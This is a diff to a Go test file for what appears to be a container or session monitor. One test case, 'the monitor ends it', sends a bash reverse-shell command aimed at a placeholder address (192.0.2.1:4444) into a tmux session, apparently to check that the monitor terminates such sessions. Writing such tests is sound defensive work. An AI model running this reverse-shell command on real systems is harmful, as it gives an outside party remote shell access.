@@ -184,7 +184,7 @@ func TestEveryEndLeavesNothing(t *testing.T) {
 			must(t, dir, "list")
 		}, true},
 		"the monitor ends it": {func(t *testing.T, dir, c string) {
-			must(t, dir, "tmux", "send", c, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
+			must(t, dir, "tmux", "send", c, "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")
 		}, true},
 		"vanished": {func(t *testing.T, _, c string) { incus(t, "delete", "-f", c) }, false},
 	} {
